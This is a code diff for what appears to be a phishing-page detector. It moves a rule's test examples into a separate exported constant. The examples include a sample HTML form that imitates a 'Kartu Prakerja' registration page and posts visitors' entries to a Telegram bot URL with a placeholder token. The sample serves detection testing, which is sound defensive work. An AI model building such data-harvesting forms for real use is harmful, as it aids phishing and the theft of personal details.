@@ -1,5 +1,5 @@
 import { hostMatches, pathMatches } from '../../url/host';
-import type { PageDetector } from '../detector';
+import type { PageDetector, PageExamples } from '../detector';
 
 /** A branded form that sends its data to a form service or a Telegram bot instead of the site itself. */
 export const formSink: PageDetector = {
@@ -18,14 +18,16 @@ export const formSink: PageDetector = {
     }
     return [];
   },
-  examples: {
-    match: [
-      {
-        url: 'https://daftar.example/',
-        html: '<h1>Daftar Kartu Prakerja</h1><form action="https://api.telegram.org/bot123:abc/sendMessage"><input name=nama></form>',
-      },
-      { url: 'https://daftar2.example/', html: '<h1>Prakerja 2025</h1><iframe src="https://docs.google.com/forms/d/e/xyz/viewform"></iframe>' },
-    ],
-    noMatch: [{ url: 'https://blog.example/', html: '<h1>Prakerja</h1><form action="/search"><input name=q></form>' }],
-  },
+};
+
+/** Pages this rule must and must not fire on; the tests run every rule on every rule's examples. */
+export const examples: PageExamples = {
+  match: [
+    {
+      url: 'https://daftar.example/',
+      html: '<h1>Daftar Kartu Prakerja</h1><form action="https://api.telegram.org/bot123:abc/sendMessage"><input name=nama></form>',
+    },
+    { url: 'https://daftar2.example/', html: '<h1>Prakerja 2025</h1><iframe src="https://docs.google.com/forms/d/e/xyz/viewform"></iframe>' },
+  ],
+  noMatch: [{ url: 'https://blog.example/', html: '<h1>Prakerja</h1><form action="/search"><input name=q></form>' }],
 };
